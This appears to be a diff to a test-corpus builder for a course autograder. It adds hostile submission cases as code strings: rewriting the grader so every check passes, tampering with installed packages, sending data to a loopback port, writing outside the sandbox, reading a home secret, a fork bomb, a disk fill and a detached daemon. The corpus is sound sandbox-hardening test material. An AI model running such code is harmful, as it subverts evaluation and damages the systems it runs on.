@@ -219,6 +219,88 @@ IntegrationModel = _importlib.import_module("reference_copy.model").IntegrationM
 '''
 
 
+REWRITE_GRADER = '''
+import importlib.util as _util
+# Append to the grader's own core a line that makes every check pass, for this and every later submission.
+try:
+    with open(_util.find_spec("course.grading.core").origin, "a") as _file:
+        _file.write("\\nCheckResult.passed = property(lambda self: True, lambda self, value: None)\\n")
+except OSError as _error:
+    print("could not rewrite the grader:", _error)
+'''
+
+REWRITE_SITE_PACKAGES = '''
+import importlib.util as _util, pathlib as _pathlib, sysconfig as _sysconfig
+for _target in (_util.find_spec("keras").origin, _util.find_spec("numpy").origin,
+                str(_pathlib.Path(_sysconfig.get_paths()["purelib"]) / "zz_lstm_course_hostile.pth")):
+    try:
+        with open(_target, "a") as _file:
+            _file.write("\\nimport os; os.environ['LSTM_COURSE_HOSTILE'] = 'tampered'\\n")
+    except OSError as _error:
+        print("could not rewrite", _target, _error)
+'''
+
+LOOPBACK = '''
+import socket as _socket
+try:
+    _socket.create_connection(("127.0.0.1", __LOOPBACK_PORT__), timeout=3).sendall(b"answers and secrets")
+except OSError as _error:
+    print("no connection:", _error)
+'''
+
+WRITE_OUTSIDE = '''
+import pathlib as _pathlib
+for _target in __OUTSIDE_TARGETS__:
+    try:
+        _pathlib.Path(_target).write_text("escaped")
+    except OSError as _error:
+        print("refused:", _target, _error)
+'''
+
+HOME_SECRET = '''
+raise RuntimeError("stolen: " + open("__SECRET_PATH__").read())
+'''
+
+FORK_BOMB = '''
+import os as _os, time as _time
+if _os.fork() == 0:  # the bomb runs beside the import, which goes on
+    while True:
+        try:
+            _os.fork()
+        except OSError:
+            _time.sleep(0.2)
+'''
+
+DISK_FILL = '''
+import signal as _signal
+_signal.signal(_signal.SIGXFSZ, _signal.SIG_IGN)  # get EFBIG instead of being killed
+for _target in ("fill.bin", "/tmp/fill.bin"):
+    try:
+        with open(_target, "wb") as _file:
+            for _ in range(4096):  # 4 GiB
+                _file.write(bytes(2**20))
+    except OSError as _error:
+        print("disk fill stopped:", _target, _error)
+'''
+
+DAEMON = '''
+import os as _os, sys as _sys
+if _os.fork() == 0:
+    _os.setsid()
+    if _os.fork() == 0:
+        _os.execv(_sys.executable, [_sys.executable, "-c", "import time; time.sleep(600)", "__DAEMON_TOKEN__"])
+    _os._exit(0)
+'''
+
+#: Placeholders of the corpus's code and their values when no test gives its own.
+PLACEHOLDERS: dict[str, str] = {
+    "__LOOPBACK_PORT__": "9",
+    "__OUTSIDE_TARGETS__": repr(["/tmp/lstm-course-hostile-escape", "/var/tmp/lstm-course-hostile-escape"]),
+    "__SECRET_PATH__": str(Path.home() / ".lstm-course-hostile-secret"),
+    "__DAEMON_TOKEN__": "lstm-course-hostile-daemon",
+}
+
+
 def cases() -> list[Case]:
     """The corpus.
 
@@ -267,17 +349,36 @@ def cases() -> list[Case]:
              zero=("model",)),
         Case("zipped-with-bug", "a zip of a folder holding the files, with the read-out bug", (_model_bug(),),
              zip=True, **cheat),
+        Case("rewrite-grader", "appends to course/grading/core.py (found with find_spec) a line that passes every check",
+             (Edit("model.py", append=REWRITE_GRADER), _model_bug()), **cheat),
+        Case("rewrite-site-packages", "appends to keras' and numpy's __init__.py and adds a .pth to site-packages",
+             (Edit("model.py", append=REWRITE_SITE_PACKAGES), _model_bug()), **cheat),
+        Case("loopback", "connects to a TCP port the grading machine listens on at 127.0.0.1",
+             (Edit("model.py", append=LOOPBACK), _model_bug()), **cheat),
+        Case("write-outside", "writes files in /tmp, /var/tmp, the grading user's home and the repository",
+             (Edit("model.py", append=WRITE_OUTSIDE), _model_bug()), **cheat),
+        Case("home-secret", "reads a file from the grading user's home into an exception message",
+             (Edit("model.py", append=HOME_SECRET),), parts=model, status=("ok", "crashed"), full=("answers",),
+             zero=("model",)),
+        Case("fork-bomb", "forks without end beside its import", (Edit("model.py", prepend=FORK_BOMB), _model_bug()),
+             parts=model, timeouts={"model": 60}, status=("ok", "crashed", "timeout")),
+        Case("disk-fill", "writes 4 GiB to its folder and 4 GiB to /tmp", (Edit("model.py", append=DISK_FILL),
+             _model_bug()), **cheat),
+        Case("daemon", "leaves a process running in a new session after its part", (Edit("model.py", append=DAEMON),
+             _model_bug()), **cheat),
         Case("corrupt-zip", "a damaged zip file", parts=("data",), status=("invalid",),
              zero=("data", "cell", "layer", "model", "training", "rules", "answers"), corrupt_zip=True),
     ]
 
 
-def build(out: Path, names: list[str] | None = None) -> dict[str, Path]:
+def build(out: Path, names: list[str] | None = None, values: dict[str, str] | None = None) -> dict[str, Path]:
     """Materialise the corpus.
 
     Args:
         out: Path, a folder to create the submissions in.
         names: list of str or None, the cases to build (default: all).
+        values: dict of placeholder to the text that replaces it in the cases' code (the
+            test's listening port, its secret file...); :data:`PLACEHOLDERS` fills the rest.
 
     Returns:
         dict of case name to its submission path (a folder or a ``.zip``).
@@ -296,6 +397,11 @@ def build(out: Path, names: list[str] | None = None) -> dict[str, Path]:
         shutil.copytree(SOLUTIONS, folder, ignore=shutil.ignore_patterns("__pycache__"))
         for edit in case.edits:
             edit.apply(folder)
+        for file in folder.glob("*.py"):
+            text = file.read_text()
+            for placeholder, value in {**PLACEHOLDERS, **(values or {})}.items():
+                text = text.replace(placeholder, value)
+            file.write_text(text)
         if case.zip:
             path = out / f"{case.name}.zip"
             with zipfile.ZipFile(path, "w") as archive:
